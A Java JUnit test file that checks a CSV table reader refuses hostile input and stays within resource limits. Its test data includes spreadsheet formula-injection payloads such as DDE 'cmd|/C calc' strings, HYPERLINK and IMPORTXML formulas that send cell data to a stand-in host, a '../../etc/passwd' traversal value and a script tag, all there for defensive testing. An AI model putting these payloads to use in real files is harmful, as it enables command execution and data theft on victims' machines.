package io.quarterday.rules.rulebook;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import io.quarterday.rules.DecisionCatalogue;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV that somebody might send to break in or to break down; each must be refused by its line and column. */
class HostileCsvTest {

    private static final String HEADER = "id,workflow,label,entity_type\n";
    private static final TableSchema SCHEMA =
            DecisionCatalogue.defaultBook().table("workflows").schema();
    private static final long ALLOCATED_MAX = 64L * 1024 * 1024;
    private static final long NANOS_MAX = 2_000_000_000L;

    private static List<Problem> problems(String csv) {
        List<Problem> problems = new ArrayList<>();
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        long allocated = threads.getCurrentThreadAllocatedBytes();
        long cpu = threads.getCurrentThreadCpuTime();
        TableReader.read(SCHEMA, csv, problems);
        cpu = threads.getCurrentThreadCpuTime() - cpu;
        allocated = threads.getCurrentThreadAllocatedBytes() - allocated;
        System.out.printf(
                "%8d characters, %6d KiB, %5d ms: %s%n",
                csv.length(), allocated / 1024, cpu / 1_000_000, problems.isEmpty() ? "TAKEN" : problems.get(0));
        assertThat(allocated).isLessThan(ALLOCATED_MAX);
        assertThat(cpu).isLessThan(NANOS_MAX);
        assertThat(problems)
                .hasSizeLessThanOrEqualTo(Problem.TOLD_MAX + SCHEMA.columns().size());
        assertThat(problems).allSatisfy(p -> assertThat(p.message().length()).isLessThan(1_000));
        return problems;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "=HYPERLINK(\"\"http://x.example?\"\"&A1,\"\"x\"\")",
                "=IMPORTXML(CONCAT(\"\"http://x.example/\"\"))",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "  =1+1",
                "\uFF1D1+1",
                "VAT\u0007",
                "VAT\u0000",
                "VAT \u202Esnruter"
            })
    void refusesATextThatAnotherProgramWouldRunOrHide(String text) {
        assertThat(problems(HEADER + "w-1,VAT,\"" + text + "\",client_service\n"))
                .singleElement()
                .satisfies(p -> {
                    assertThat(p.line()).isEqualTo(2);
                    assertThat(p.row()).isEqualTo("w-1");
                    assertThat(p.column()).isEqualTo("label");
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "PK\u0003\u0004",
                "<html><table></table></html>",
                "id,workflow,=1+1,entity_type\n",
                "id,workflow,label\n",
                HEADER + "w-1,VAT,x\n",
                HEADER + "w-1,VAT,x,y,stowaway\n",
                HEADER + "w-1,VAT,x,y\nw-1,CIS,x,y\n",
                HEADER + "../../etc/passwd,VAT,x,y\n",
                HEADER + "w-1,<script>,x,y\n",
                HEADER + "w-1,VAT,\"never closed,y\n"
            })
    void refusesWhatIsNotThisTable(String csv) {
        assertThat(problems(csv)).isNotEmpty();
    }

    @Test
    void refusesWhatIsTooLarge() {
        StringBuilder rows = new StringBuilder(HEADER);
        for (int i = 0; i < 100_000; i++) {
            rows.append("w-").append(i).append(",W").append(i).append(",x,y\n");
        }
        assertThat(problems(rows.toString())).anyMatch(p -> p.message().contains("more than 20000 rows"));
        assertThat(problems(HEADER + "w-1,VAT," + "x".repeat(5_000_000) + ",y\n"))
                .anyMatch(p -> p.message().contains("5000000 characters"));
        assertThat(problems("x,".repeat(20_000) + "\n")).isNotEmpty();
        assertThat(problems("x".repeat(5_000_000))).anyMatch(p -> p.message().startsWith("the header is"));
        assertThat(problems("x".repeat(TableReader.TEXT_LENGTH_MAX + 1)))
                .anyMatch(p -> p.message().contains("at most"));
    }

    @Test
    void stopsTellingWhatIsWrongWhenEverythingIs() {
        StringBuilder rows = new StringBuilder(HEADER);
        for (int i = 0; i < 20_000; i++) {
            rows.append("=1+1,=1+1,=1+1,=1+1\n");
        }
        assertThat(problems(rows.toString())).hasSizeGreaterThanOrEqualTo(Problem.TOLD_MAX);
    }

    @Test
    void refusesAFormulaInAScenario() {
        List<Problem> problems = new ArrayList<>();
        TableReader.readScenarios("workflows", "scenario,workflow,expect_label\nx,=1+1,VAT\n", problems);

        assertThat(problems).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(2);
            assertThat(p.column()).isEqualTo("workflow");
        });
    }
}
